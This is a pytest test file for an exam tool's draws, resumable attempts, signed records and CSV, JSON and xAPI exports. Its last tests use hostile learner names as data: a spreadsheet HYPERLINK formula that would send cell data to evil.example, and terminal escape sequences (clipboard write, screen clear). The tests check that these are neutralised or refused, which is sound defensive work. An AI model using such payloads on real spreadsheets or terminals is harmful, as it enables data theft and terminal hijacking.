"""Exams without the app: the draw, attempts that survive a crash, grading, signed records,
and the results commands (list, export as JSON, CSV and xAPI, verify)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import os
import signal
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO
from tutor.cli import main
from tutor.content.answers import recorded_answer, right_rows
from tutor.content.model import Course, Question
from tutor.errors import InputError
from tutor.exam.learners import LearnerError
from tutor.exam.record import KEY_ENV, SigningKey, canonical, verify
from tutor.exam.session import ExamError, ExamSession
from tutor.exam.shape import ExamRecord
from tutor.exam.spec import spec_for
from tutor.progress.store import ProgressStore

KEY = SigningKey(b"a-test-key-of-sufficient-length", "test")


@pytest.fixture
def store(tmp_path: Path) -> Any:
    opened = ProgressStore.open(tmp_path / "data", "tester")
    yield opened
    opened.close()


class Clock:
    """A clock the test moves by hand."""

    def __init__(self) -> None:
        self.now = dt.datetime(2026, 11, 22, 9, 0, tzinfo=dt.timezone.utc)

    def __call__(self) -> dt.datetime:
        return self.now


def right_answer(question: Question) -> Any:
    if question.type == "fix_it":
        return question.solution
    return recorded_answer(question, right_rows(question))


def wrong_answer(question: Question) -> Any:
    if question.type == "fix_it":
        return question.dockerfile  # the starter fails its goal
    if question.type == "true_false":
        return not question.answer
    right = right_rows(question)
    count = len(question.options) if question.type != "spot_the_line" else len(
        (question.dockerfile or "").splitlines())
    other = next(i for i in range(count) if i not in right)
    return recorded_answer(question, {other})


# The draw ------------------------------------------------------------------------------------

def test_default_exam_covers_every_topic_and_the_doing_types(course: Course,
                                                             store: Any) -> None:
    """Three a topic from every topic, with fix-it and spot-the-line among them."""
    session = ExamSession.begin(store, course, spec_for(course, seed=1), "Ada", KEY)
    topics = Counter(q.topic for q in session.questions)
    assert set(topics) == {t.id for t in course.topics} and set(topics.values()) == {3}
    types = {q.type for q in session.questions}
    assert {"fix_it", "spot_the_line"} <= types
    assert len({q.id for q in session.questions}) == len(session.questions)


def test_same_seed_same_draw_and_order(course: Course, tmp_path: Path) -> None:
    """Two learners with the same seed and history get the same questions, order and options."""
    spec = spec_for(course, seed=42, questions=9)
    draws = []
    for name in ("a", "b"):
        with_store = ProgressStore.open(tmp_path / name, "x")
        session = ExamSession.begin(with_store, course, spec, "Ada", KEY)
        draws.append([(s.question, s.order) for s in session.served])
        with_store.close()
    assert draws[0] == draws[1] and len(draws[0]) == 9
    other = ExamSession.begin(ProgressStore.open(tmp_path / "c", "x"), course,
                              spec_for(course, seed=43, questions=9), "Ada", KEY)
    assert [(s.question, s.order) for s in other.served] != draws[0]


def test_options_are_shuffled_and_graded_by_their_own_index(course: Course,
                                                            store: Any) -> None:
    """Some option order differs from the bank's, yet right answers are still right."""
    spec = spec_for(course, seed=7, types=["single", "multiple"], questions=10)
    session = ExamSession.begin(store, course, spec, "Ada", KEY)
    assert any(list(s.order) != sorted(s.order) for s in session.served)
    for position, question in enumerate(session.questions):
        session.answer(position, right_answer(question))
    record = session.submit()
    assert record["score"] == {"correct": 10, "total": 10, "percent": 100.0}
    for entry, served in zip(record["questions"], session.served, strict=True):
        question = next(q for q in course.questions if q.id == entry["id"])
        assert entry["shown"] == [question.options[i].text for i in served.order]


def test_later_attempts_prefer_questions_not_asked_before(course: Course, store: Any) -> None:
    """A second attempt avoids the first one's questions while the banks allow it."""
    spec = spec_for(course, questions=10, types=["single"])
    first = ExamSession.begin(store, course, spec, "Ada", KEY)
    first.submit()
    second = ExamSession.begin(store, course, spec, "Ada", KEY)
    assert not {q.id for q in first.questions} & {q.id for q in second.questions}


def test_narrowing_by_topic_and_type(course: Course, store: Any) -> None:
    """--topics and --types limit the draw; a bad name is a clear error."""
    spec = spec_for(course, topics=["secrets"], types=["true_false", "single"], per_topic=4)
    session = ExamSession.begin(store, course, spec, "Ada", KEY)
    assert {q.topic for q in session.questions} == {"secrets"}
    assert {q.type for q in session.questions} <= {"true_false", "single"}
    assert len(session.questions) == 4
    with pytest.raises(Exception, match="no topic nope"):
        spec_for(course, topics=["nope"])
    with pytest.raises(Exception, match="essay is not a question type"):
        spec_for(course, types=["essay"])


# Attempts ------------------------------------------------------------------------------------

def defined(course: Course, **changes: Any) -> Course:
    """The course with its sign-off exam's definition changed, as an instructor's pack would."""
    exam = dataclasses.replace(course.exams[0], **changes)
    return dataclasses.replace(course, exams=(exam,))


def test_attempts_limit_is_the_definitions(course: Course, store: Any) -> None:
    """A definition allowing one attempt refuses a second, naming the learner and the exam."""
    limited = defined(course, questions=3, per_topic=None, attempts=1)
    spec = spec_for(limited)
    assert spec.kind == "sign-off"
    ExamSession.begin(store, limited, spec, "Ada", KEY).submit()
    with pytest.raises(ExamError, match="Ada has used 1 of 1 attempt at Container hardening"):
        ExamSession.begin(store, limited, spec, "Ada", KEY)
    ExamSession.begin(store, limited, spec, "Grace", KEY)  # another learner may


def test_changed_settings_make_a_practice_exam(course: Course, store: Any) -> None:
    """The cheat of issue 14: options give a practice exam, titled so, that counts apart."""
    cheat = spec_for(course, questions=1, pass_mark=1, types=["true_false"])
    assert cheat.kind == "practice" and cheat.shown_title.startswith("Practice: ")
    assert cheat.store_key != spec_for(course).store_key
    record = ExamSession.begin(store, course, cheat, "Bob Cheat", KEY).submit()
    assert record["exam"]["kind"] == "practice" and record["exam"]["id"] == "sign-off"
    assert record["exam"]["definition_hash"] != spec_for(course).definition_hash
    assert spec_for(course, seed=4, practice=True).kind == "practice"  # the CLI's --seed


def test_the_record_names_the_exam_and_its_definition(course: Course, store: Any) -> None:
    """A sign-off record carries the exam id, kind and a hash of the definition as run."""
    spec = spec_for(course, "sign-off")
    record = ExamSession.begin(store, course, spec, "Ada", KEY).submit()
    exam = record["exam"]
    assert (exam["id"], exam["kind"], exam["definition_hash"]) == (
        "sign-off", "sign-off", spec.definition_hash)
    assert exam["settings"]["pass_mark"] == 80 and exam["settings"]["feedback"] == "review"
    assert record["format"] == "hardening-tutor/exam-record/2"
    assert record["previous"] is None
    second = ExamSession.begin(store, course, spec, "Ada", KEY).submit()
    assert second["previous"] == record["signature"]["value"]  # the chain


def test_an_unknown_exam_id_names_the_choices(course: Course) -> None:
    """exam ID must be one the course defines."""
    with pytest.raises(InputError, match="defines no exam 'final'; it defines: sign-off"):
        spec_for(course, "final")


def test_a_retake_waits_for_the_definitions_days(course: Course, store: Any) -> None:
    """retake_after_days refuses a new attempt until the days have passed."""
    waiting = defined(course, questions=2, per_topic=None, retake_after_days=7)
    clock = Clock()
    spec = spec_for(waiting)
    ExamSession.begin(store, waiting, spec, "Ada", KEY, clock).submit()
    clock.now += dt.timedelta(days=6)
    with pytest.raises(ExamError, match="can start from 2026-11-29 09:00 UTC"):
        ExamSession.begin(store, waiting, spec, "Ada", KEY, clock)
    clock.now += dt.timedelta(days=1)
    ExamSession.begin(store, waiting, spec, "Ada", KEY, clock)


def test_an_open_attempt_is_resumed_with_its_clock(course: Course, store: Any) -> None:
    """Starting again resumes the open attempt: same questions, answers, flags, deadline."""
    clock = Clock()
    spec = spec_for(course, seed=3, time_limit=30)
    first = ExamSession.begin(store, course, spec, "Ada", KEY, clock)
    first.answer(0, right_answer(first.questions[0]))
    first.flag(1, True)
    clock.now += dt.timedelta(minutes=10)
    again = ExamSession.begin(store, course, spec, "Ada", KEY, clock)
    assert again.resumed and again.attempt.id == first.attempt.id
    assert again.served == first.served
    assert again.answers == {0: right_answer(first.questions[0])} and again.flags == {1}
    assert again.remaining() == 20 * 60


def test_time_limit_expiry_submits_what_was_answered(course: Course, store: Any) -> None:
    """After the deadline no answer is taken, and submitting says time ran out."""
    clock = Clock()
    session = ExamSession.begin(store, course, spec_for(course, time_limit=1), "Ada", KEY, clock)
    session.answer(0, right_answer(session.questions[0]))
    clock.now += dt.timedelta(minutes=2)
    assert session.expired and session.remaining() == 0
    with pytest.raises(ExamError, match="time is up"):
        session.answer(1, right_answer(session.questions[1]))
    record = session.submit()
    assert record["submitted"] == "when time ran out"
    assert record["ended_at"] == record["deadline"]
    assert record["score"]["correct"] == 1


_KILLED_CHILD = r"""
import os, signal, sys
from pathlib import Path
from tutor.content.loader import load_course
from tutor.content.answers import recorded_answer, right_rows
from tutor.exam.session import ExamSession
from tutor.exam.spec import spec_for
from tutor.progress.store import ProgressStore
course = load_course(None)
store = ProgressStore.open(Path(sys.argv[1]), "tester")
session = ExamSession.begin(store, course, spec_for(course, seed=11, types=["single"]), "Ada",
                            None)
for position in (0, 1):
    q = session.questions[position]
    session.answer(position, recorded_answer(q, right_rows(q)))
session.flag(2, True)
print(session.attempt.id, flush=True)
os.kill(os.getpid(), signal.SIGKILL)
"""


def test_kill_9_mid_exam_loses_nothing(course: Course, tmp_path: Path) -> None:
    """A process killed with SIGKILL after two answers: the next start resumes with both."""
    data = tmp_path / "data"
    done = subprocess.run([sys.executable, "-c", _KILLED_CHILD, str(data)], cwd=REPO,
                          capture_output=True, text=True)
    assert done.returncode == -signal.SIGKILL
    attempt_id = done.stdout.strip()
    store = ProgressStore.open(data, "tester")
    session = ExamSession.begin(store, course, spec_for(course, seed=11, types=["single"]),
                                "Ada", None)
    assert session.resumed and session.attempt.id == attempt_id
    assert session.notice is not None and "is no longer running" in session.notice
    assert sorted(session.answers) == [0, 1] and session.flags == {2}
    record = session.submit()
    assert record["score"]["correct"] == 2
    store.close()


def test_nothing_is_judged_before_submission(course: Course, store: Any) -> None:
    """The store holds answers but no verdicts until the attempt is submitted."""
    session = ExamSession.begin(store, course, spec_for(course, seed=2), "Ada", KEY)
    session.answer(0, right_answer(session.questions[0]))
    row = store.exams.attempt(session.attempt.id)
    assert row.record is None
    columns = [c[1] for c in store._db.execute("PRAGMA table_info(exam_answers)")]
    assert "correct" not in columns


def test_a_finished_attempt_takes_no_more_answers(course: Course, store: Any) -> None:
    """Answers after submission are refused by the store itself."""
    from tutor.progress.store import StoreError

    session = ExamSession.begin(store, course, spec_for(course, questions=2), "Ada", KEY)
    session.submit()
    with pytest.raises(StoreError, match="not open for answers"):
        store.exams.save_answer(session.attempt.id, session.holder, 0, [0],
                                "2026-11-22T09:00:00Z")


# Records and signatures ----------------------------------------------------------------------

def finished_record(course: Course, store: Any, key: SigningKey | None = KEY,
                    name: str = "Ada Lovelace") -> ExamRecord:
    session = ExamSession.begin(store, course, spec_for(course, seed=5), name, key)
    for position, question in enumerate(session.questions):
        answer = right_answer(question) if position % 3 else wrong_answer(question)
        session.answer(position, answer)
    return session.submit()


def test_record_holds_what_an_auditor_needs(course: Course, store: Any) -> None:
    """Learner, attempt, times, version, course hash, questions with answers, score, result."""
    record = finished_record(course, store)
    for key in ("learner", "attempt_id", "attempt_number", "started_at", "ended_at",
                "tool_version", "course", "questions", "score", "pass_mark", "result"):
        assert key in record, key
    assert record["course"]["content_hash"] == course.content_hash
    assert record["score"] == {"correct": 10, "total": 15, "percent": 66.7}
    assert record["result"] == "failed" and record["pass_mark"] == 80
    first = record["questions"][0]
    assert {"id", "shown", "order", "answer", "correct"} <= set(first) and not first["correct"]
    assert record["signature"]["method"] == "HMAC-SHA256"
    assert verify(record, KEY).ok


@pytest.mark.parametrize("tamper", [
    pytest.param(lambda r: r["score"].update(correct=15), id="score"),
    pytest.param(lambda r: r.update(result="passed"), id="result"),
    pytest.param(lambda r: r.update(learner="Mallory"), id="name"),
    pytest.param(lambda r: r["questions"][0].update(answer=r["questions"][1]["answer"]),
                 id="answer"),
    pytest.param(lambda r: r["questions"].pop(0), id="dropped question"),
    pytest.param(lambda r: r.update(ended_at="2026-11-22T09:01:00Z"), id="time"),
])
def test_any_edit_breaks_the_signature(course: Course, store: Any, tamper: Any) -> None:
    """Changing a score, a result, a name, an answer, a time, or dropping a question, is caught."""
    record = json.loads(json.dumps(finished_record(course, store)))
    tamper(record)
    verdict = verify(record, KEY)
    assert not verdict.ok and verdict.reason == "it was changed after it was signed"


def test_unsigned_and_other_key_records_are_told_apart(course: Course, store: Any) -> None:
    """Without a key the record is self-assessed; another key's record names that key."""
    unsigned = finished_record(course, store, key=None)
    assert unsigned["signature"]["method"] == "none"
    assert "self-assessed" in unsigned["signature"]["note"]
    assert verify(unsigned, KEY).reason == "it is unsigned (self-assessed)"
    other = finished_record(course, store, key=SigningKey(b"another-key-entirely-123", "x"),
                            name="Grace")
    assert "signed with another key" in verify(other, KEY).reason


def test_canonical_form_ignores_key_order_and_whitespace(course: Course, store: Any) -> None:
    """Re-serialising a record (pretty-printed, keys reordered) keeps it verifiable."""
    record = finished_record(course, store)
    reordered = json.loads(json.dumps(dict(reversed(list(record.items()))), indent=4))
    assert canonical(reordered) == canonical(record) and verify(reordered, KEY).ok


# The results commands ------------------------------------------------------------------------

@pytest.fixture
def with_records(course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data folder holding two signed attempts and one in progress."""
    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
    data = tmp_path / "data"
    store = ProgressStore.open(data, "tester")
    finished_record(course, store, name="Ada Lovelace")
    finished_record(course, store, name="Grace Hopper")
    ExamSession.begin(store, course, spec_for(course, seed=9), "Alan Turing", KEY)
    store.close()
    return data


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_results_list(with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every attempt is listed with its exam, kind, score, result and whether it is signed."""
    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_records))
    assert code == 0
    assert "Ada Lovelace" in out and "10/15 (66.7%)" in out and "failed" in out
    assert "Alan Turing" in out and "in progress" in out
    assert f"yes, key {KEY.key_id}" in out
    [ada] = [line for line in out.splitlines() if "Ada Lovelace" in line]
    assert "sign-off  sign-off  Container hardening sign-off" in ada  # exam id, kind, title
    assert "(ada lovelace)" in ada  # the learner's id beside the name


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_results_list_as_csv_and_json(with_records: Path, fmt: str,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    """CSV and JSON listings read back with every column, the open attempt included."""
    from tutor.exam.listing import COLUMNS

    code, out, _ = run(capsys, "results", "list", "--format", fmt,
                       "--data-dir", str(with_records))
    rows = list(csv.DictReader(io.StringIO(out))) if fmt == "csv" else json.loads(out)
    assert code == 0 and [tuple(row) for row in rows] == [COLUMNS] * 3
    by_name = {row["learner_name"]: row for row in rows}
    ada, alan = by_name["Ada Lovelace"], by_name["Alan Turing"]
    assert ada["learner_id"] == "ada lovelace" and ada["kind"] == "sign-off"
    assert ada["exam_id"] == "sign-off" and ada["title"] == "Container hardening sign-off"
    assert str(ada["correct"]) == "10" and str(ada["total"]) == "15"
    assert ada["result"] == "failed" and ada["signed"] == KEY.key_id and ada["ended_at"]
    assert alan["result"] == "in progress" and alan["signed"] == "no"
    assert alan["exam_id"] == ada["exam_id"] and alan["kind"] == "sign-off"
    assert alan["ended_at"] in ("", None) and alan["correct"] in ("", None)


def test_export_json_then_verify(with_records: Path, tmp_path: Path,
                                 capsys: pytest.CaptureFixture[str]) -> None:
    """An untouched export verifies (exit 0); one edited record fails it (exit 1, named)."""
    target = tmp_path / "records.json"
    code, _, err = run(capsys, "results", "export", "-o", str(target),
                       "--data-dir", str(with_records))
    assert code == 0 and "Wrote 2 record(s)" in err
    code, out, _ = run(capsys, "results", "verify", str(target))
    assert code == 0 and "2 record(s): 2 intact" in out
    document = json.loads(target.read_text())
    document["records"][1]["score"]["correct"] = 15
    target.write_text(json.dumps(document))
    code, out, _ = run(capsys, "results", "verify", str(target))
    assert code == 1
    assert "record 2" in out and "Grace Hopper" in out and "changed after it was signed" in out
    code, _, err = run(capsys, "results", "export", "-o", str(target),
                       "--data-dir", str(with_records))
    assert code == 2 and "exists; pass --force" in err


def test_verify_without_a_key_is_a_usage_error(tmp_path: Path, monkeypatch: Any,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    """No key configured: exit 2 saying so, rather than claiming anything about the file."""
    monkeypatch.delenv(KEY_ENV, raising=False)
    monkeypatch.setattr("tutor.exam.record.key_file", lambda: tmp_path / "none.key")
    (tmp_path / "x.json").write_text('{"records": []}')
    code, _, err = run(capsys, "results", "verify", str(tmp_path / "x.json"))
    assert code == 2 and "no signing key is configured" in err


def test_export_csv_round_trips(with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """CSV has a header and one row per finished attempt, readable by the csv module."""
    from tutor.exam.export import CSV_COLUMNS

    code, out, _ = run(capsys, "results", "export", "--format", "csv",
                       "--data-dir", str(with_records))
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and len(rows) == 2
    assert tuple(rows[0]) == CSV_COLUMNS
    assert {row["learner"] for row in rows} == {"Ada Lovelace", "Grace Hopper"}
    assert rows[0]["correct"] == "10" and rows[0]["result"] == "failed"
    assert rows[0]["signed"] == "yes" and rows[0]["key_id"] == KEY.key_id


def test_export_xapi_statements(with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One passed/failed statement per attempt and one answered statement per question."""
    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
                       "--home-page", "https://lms.example.com", "--data-dir", str(with_records))
    statements = json.loads(out)
    assert code == 0 and len(statements) == 2 * (1 + 15)
    attempt = statements[0]
    assert attempt["verb"]["id"] == "http://adlnet.gov/expapi/verbs/failed"
    assert attempt["actor"]["account"] == {"homePage": "https://lms.example.com",
                                           "name": "ada lovelace"}
    assert attempt["object"]["definition"]["type"] == \
        "http://adlnet.gov/expapi/activities/assessment"
    score = attempt["result"]["score"]
    assert score == {"scaled": round(10 / 15, 4), "raw": 10, "min": 0, "max": 15}
    assert attempt["result"]["success"] is False and attempt["result"]["completion"] is True
    assert attempt["result"]["duration"].startswith("PT")
    assert attempt["timestamp"].endswith("Z")
    answers = [s for s in statements if s["verb"]["id"].endswith("/answered")]
    assert len(answers) == 30
    for statement in answers:
        assert statement["context"]["registration"] in {s["context"]["registration"]
                                                        for s in statements[:1] + statements[16:17]}
        assert statement["context"]["contextActivities"]["parent"][0]["id"].startswith(
            "urn:hardening-tutor:exam:")
        assert statement["object"]["definition"]["type"].endswith("cmi.interaction")
        assert isinstance(statement["result"]["success"], bool)
    kinds = {s["object"]["definition"]["interactionType"] for s in answers}
    assert {"choice", "true-false", "other"} <= kinds
    assert len({s["id"] for s in statements}) == len(statements)


def test_xapi_gives_the_correct_response_where_the_record_proves_it(
        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A right answer, and the other of true or false, give correctResponsesPattern."""
    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
                       "--data-dir", str(with_records))
    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
    assert code == 0
    for statement in answers:
        definition, result = statement["object"]["definition"], statement["result"]
        pattern = definition.get("correctResponsesPattern")
        if definition["interactionType"] == "other":
            assert pattern is None  # a fix-it question has many right Dockerfiles
        elif result["success"]:
            assert pattern == [result["response"]]
        elif definition["interactionType"] == "true-false":
            assert pattern == [{"true": "false", "false": "true"}[result["response"]]]
    assert sum("correctResponsesPattern" in s["object"]["definition"] for s in answers) >= 10


def test_xapi_pattern_comes_from_the_records_expected_answer(
        with_records: Path, course: Course, capsys: pytest.CaptureFixture[str]) -> None:
    """With "expected" in each question of the record, every choice and true-false
    question states its right answer in xAPI's syntax: ids joined by [,]."""
    store = ProgressStore.open(with_records, "tester")
    questions = {q.id: q for q in course.questions}
    for attempt in store.exams.all_attempts():
        if attempt.record is None:
            continue
        for entry in attempt.record["questions"]:
            question = questions[entry["id"]]
            if question.type != "fix_it":
                entry["expected"] = recorded_answer(question, right_rows(question))
        store._db.execute("UPDATE exam_attempts SET record = ? WHERE id = ?",
                          (json.dumps(attempt.record), attempt.id))
    store._db.commit()
    store.close()
    code, out, _ = run(capsys, "results", "export", "--format", "xapi",
                       "--data-dir", str(with_records))
    answers = [s for s in json.loads(out) if s["verb"]["id"].endswith("/answered")]
    assert code == 0
    for statement in answers:
        question = questions[statement["object"]["id"].rsplit(":", 1)[1]]
        pattern = statement["object"]["definition"].get("correctResponsesPattern")
        if question.type == "fix_it":
            assert pattern is None
        elif question.type == "true_false":
            assert pattern == [str(question.answer).lower()]
        elif question.type == "spot_the_line":
            assert isinstance(question.answer, tuple)
            assert pattern == ["[,]".join(f"line-{line}" for line in sorted(question.answer))]
        else:
            assert isinstance(question.answer, tuple)
            assert pattern == ["[,]".join(f"option-{index}"
                                          for index in sorted(question.answer))]
    patterns = [s["object"]["definition"].get("correctResponsesPattern") for s in answers]
    assert any(pattern and "[,]" in pattern[0] for pattern in patterns)  # several right


def test_new_key_is_private_and_never_replaced(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    """new-key writes a 0600 file once; a second run refuses to replace it."""
    target = tmp_path / "cfg" / "signing.key"
    code, out, _ = run(capsys, "results", "new-key", "-o", str(target))
    assert code == 0 and "Keep it where learners cannot read it" in out
    assert os.stat(target).st_mode & 0o777 == 0o600 and len(target.read_text().strip()) == 64
    code, _, err = run(capsys, "results", "new-key", "-o", str(target))
    assert code == 2 and "exists" in err


def test_results_commands_never_import_textual(with_records: Path, tmp_path: Path) -> None:
    """results list/export/verify stay headless, like check."""
    script = ("import sys; from tutor.cli import main; "
              f"main(['results', 'list', '--data-dir', {str(with_records)!r}]); "
              f"main(['results', 'export', '--format', 'xapi', '--data-dir', "
              f"{str(with_records)!r}]); "
              "assert 'textual' not in sys.modules, 'textual imported'")
    done = subprocess.run([sys.executable, "-c", script], cwd=REPO, capture_output=True,
                          text=True, env={**os.environ, KEY_ENV: KEY.secret.decode()})
    assert done.returncode == 0, done.stderr


def test_results_report_a_corrupt_store_and_leave_it(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """results list on a damaged progress file says so (exit 2); the file is not moved."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "progress.db").write_bytes(b"not a database at all " * 50)
    code, out, err = run(capsys, "results", "list", "--data-dir", str(data))
    assert code == 2 and "cannot be read" in err and "left as it is" in err
    assert [p.name for p in data.iterdir()] == ["progress.db"]


def test_results_on_a_missing_store_create_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """No store yet: no attempts, and no folder or file is created by reading."""
    data = tmp_path / "never-used"
    code, out, _ = run(capsys, "results", "list", "--data-dir", str(data))
    assert code == 0 and out == "No exam attempts yet.\n"
    code, out, _ = run(capsys, "results", "export", "--format", "csv", "--data-dir", str(data))
    assert code == 0 and out.count("\n") == 1  # the header only
    assert not data.exists()


def _snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.iterdir())}


def test_results_change_nothing_in_the_data_folder(
        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """list and export read the store without writing it (no learner row, no journal)."""
    before = _snapshot(with_records)
    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_records))
    assert code == 0 and "Ada Lovelace" in out
    code, out, _ = run(capsys, "results", "export", "--data-dir", str(with_records))
    assert code == 0 and "Grace Hopper" in out
    assert _snapshot(with_records) == before


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
                    reason="root may write a read-only folder")
def test_results_read_a_read_only_folder(
        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A data folder and store the reader may not write are listed and exported."""
    (with_records / "progress.db").chmod(0o444)
    with_records.chmod(0o555)
    try:
        code, out, err = run(capsys, "results", "list", "--data-dir", str(with_records))
        assert code == 0 and "Ada Lovelace" in out, err
        code, out, err = run(capsys, "results", "export", "--format", "csv",
                             "--data-dir", str(with_records))
        assert code == 0 and "Grace Hopper" in out, err
    finally:
        with_records.chmod(0o755)


# Names -------------------------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    pytest.param(["exam", "--name", "Ada\x1b]52;c;aGk=\x07"], id="exam --name"),
    pytest.param(["--learner", "Ada\x9b2J", "--data-dir", "{data}"], id="app --learner"),
])
def test_names_with_control_characters_are_refused_before_the_screen(
        args: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """exam --name and --learner refuse control characters, naming the first (exit 2)."""
    code, out, err = run(capsys, *(a.format(data=tmp_path) for a in args))
    assert code == 2 and "cannot hold control characters" in err
    assert "U+001B (ESC) at character 4" in err or "U+009B (CSI) at character 4" in err
    assert "\x1b" not in err and "\x9b" not in err and "needs a terminal" not in err


def test_a_name_is_refused_by_the_session_itself(course: Course, store: Any) -> None:
    """The headless session refuses it too (a server has no command line to check it)."""
    with pytest.raises(LearnerError, match="U\\+0007 \\(BEL\\)"):
        ExamSession.begin(store, course, spec_for(course, questions=2), "A\x07da", KEY)
    assert list(store.exams.all_attempts()) == []


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)\x1b]52;c;aGk=\x07'


@pytest.fixture
def with_hostile_name(course: Course, tmp_path: Path) -> Path:
    """A store whose finished record names its learner as a formula with an escape in it,
    as an older version or another tool could have written it."""
    data = tmp_path / "data"
    store = ProgressStore.open(data, "tester")
    record = finished_record(course, store, name="Ada")
    store._db.execute("UPDATE exam_attempts SET learner = ?, record = ?",
                      (HOSTILE, json.dumps({**record, "learner": HOSTILE})))
    store._db.commit()
    store.close()
    return data


def test_results_list_shows_control_characters_as_glyphs(
        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A stored name holding ESC and BEL is listed with both visible, none sent raw."""
    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_hostile_name))
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out


# The hostile name as a CSV cell: a leading quote makes it text, its controls are glyphs.
NEUTRALISED = "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'


@pytest.mark.parametrize(("command", "expected"), [
    ("list", {"learner_name": NEUTRALISED, "learner_id": NEUTRALISED, "correct": "10"}),
    ("export", {"learner": NEUTRALISED, "correct": "10", "result": "failed"}),
])
def test_csv_neutralises_formulas_and_controls(
        command: str, expected: dict[str, str], with_hostile_name: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """results list and export --format csv write a name a spreadsheet would run as a formula
    as text (OWASP CSV Injection), its controls visible, and the rest unchanged."""
    code, out, _ = run(capsys, "results", command, "--format", "csv",
                       "--data-dir", str(with_hostile_name))
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and "\x1b" not in out
    assert {column: row[column] for column in expected} == expected


@pytest.mark.parametrize("fmt", ["json", "xapi"])
def test_json_exports_escape_c1_controls(with_hostile_name: Path, fmt: str,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    """JSON and xAPI exports carry an 8-bit CSI in a name escaped, and read back the same."""
    data = with_hostile_name
    store = ProgressStore.open(data, "tester")
    store._db.execute("UPDATE exam_attempts SET learner = learner || ?1, record = json_set("
                      "record, '$.learner', json_extract(record, '$.learner') || ?1)",
                      ("\x9b2J",))
    store._db.commit()
    store.close()
    code, out, _ = run(capsys, "results", "export", "--format", fmt, "--data-dir", str(data))
    assert code == 0 and "\x9b" not in out and "\\u009b2J" in out
    assert "\x9b2J" in json.dumps(json.loads(out), ensure_ascii=False)


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "␍x"), ("Ada Lovelace", "Ada Lovelace"), ("a=b", "a=b"),
    (-1, -1), (66.7, 66.7),
])
def test_csv_cells(value: Any, cell: Any) -> None:
    """Text starting with = + - @ or a tab gets a quote; numbers and other text do not."""
    from tutor.exam.export import csv_cell

    assert csv_cell(value) == cell


# Verifying: what the file holds, and the key ---------------------------------------------------

@pytest.fixture
def export(with_records: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A JSON export of the two signed records."""
    target = tmp_path / "records.json"
    code, _, _ = run(capsys, "results", "export", "-o", str(target),
                     "--data-dir", str(with_records))
    assert code == 0
    return target


def test_verify_refuses_the_same_record_twice(export: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """A copied record is an error naming its attempt: one attempt counts once (exit 1)."""
    document = json.loads(export.read_text())
    copy = document["records"][0]
    document["records"].append(copy)
    export.write_text(json.dumps(document))
    code, out, _ = run(capsys, "results", "verify", str(export))
    assert code == 1
    assert (f"✖ record 3 (attempt {copy['attempt_id']}, learner 'Ada Lovelace'): attempt "
            f"{copy['attempt_id']} appears again (first as record 1)") in out
    assert "3 record(s): 2 intact and signed with key" in out and ", 1 not." in out


def test_verify_of_no_records_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                    capsys: pytest.CaptureFixture[str]) -> None:
    """An export with no records proves nothing: exit 1 saying there is nothing to verify."""
    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
    for text in ('{"records": []}', "[]"):
        (tmp_path / "empty.json").write_text(text)
        code, out, _ = run(capsys, "results", "verify", str(tmp_path / "empty.json"))
        assert code == 1 and "holds no records: there is nothing to verify" in out


@pytest.mark.parametrize("kind", ["device", "fifo", "directory"])
def test_verify_reads_only_a_regular_file(kind: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    """/dev/zero, a named pipe or a folder is refused at once (exit 2), never read."""
    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
    target = {"device": Path("/dev/zero"), "fifo": tmp_path / "pipe",
              "directory": tmp_path}[kind]
    if kind == "fifo":
        os.mkfifo(target)
    code, _, err = run(capsys, "results", "verify", str(target))
    assert code == 2 and "not a regular file" in err


